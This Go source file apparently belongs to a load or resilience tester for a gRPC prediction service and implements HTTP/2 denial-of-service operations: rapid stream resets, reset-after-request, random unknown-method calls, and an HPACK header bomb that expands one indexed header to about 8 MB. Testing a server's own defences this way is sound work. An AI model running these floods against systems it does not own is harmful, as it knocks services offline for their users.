package main

import (
	"context"
	"fmt"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	weftv1 "github.com/weftserve/weft/proto/gen/weft/v1"
)

const (
	predictMethod = weftv1.PredictionService_Predict_FullMethodName
	streamMethod  = weftv1.PredictionService_PredictStream_FullMethodName
)

// rapidReset resets calls before they have a message.
func rapidReset(l *link) (operation, error) {
	return func(context.Context) error {
		stream, err := l.call(predictMethod)
		if err != nil {
			return err
		}
		return l.frames.WriteRSTStream(stream, http2.ErrCodeCancel)
	}, nil
}

// resetRequests resets calls whose message has come.
func resetRequests(l *link) (operation, error) {
	message := framed(policyRequest())
	return func(context.Context) error {
		stream, err := l.call(predictMethod)
		if err != nil {
			return err
		}
		if err := l.send(stream, message, true); err != nil {
			return err
		}
		return l.frames.WriteRSTStream(stream, http2.ErrCodeCancel)
	}, nil
}

// unknownMethods calls another method each time.
func unknownMethods(l *link) (operation, error) {
	return func(context.Context) error {
		stream, err := l.call(fmt.Sprintf("/weft.v1.Stranger%d/Do%d", l.random.Uint32(), l.random.Uint32()))
		if err != nil {
			return err
		}
		return l.send(stream, nil, true)
	}, nil
}

// headerBombs has a header of 4 KB in the index, and names it as often as makes 8 MB: a byte each time. Its name ends
// in -bin, so that a server decodes it each time, and has 3 KB of it.
func headerBombs(l *link) (operation, error) {
	const (
		value = 3900 // the index has room for 4,096 bytes, with 32 of its own for each header
		times = 8 << 20 / value
		frame = 16 << 10
	)
	bomb := hpack.HeaderField{Name: "bomb-bin", Value: strings.Repeat("A", value)}
	return func(context.Context) error {
		block := l.head(predictMethod, bomb)
		for range times {
			block = append(block, 0x80|62) // the newest of the index
		}
		l.next()
		first, rest := block[:min(len(block), frame)], block[min(len(block), frame):]
		if err := l.frames.WriteHeaders(http2.HeadersFrameParam{
			StreamID: l.latest, BlockFragment: first, EndHeaders: len(rest) == 0,
		}); err != nil || len(rest) == 0 {
			return err
		}
		return l.frames.WriteContinuation(l.latest, true, rest)
	}, nil
}
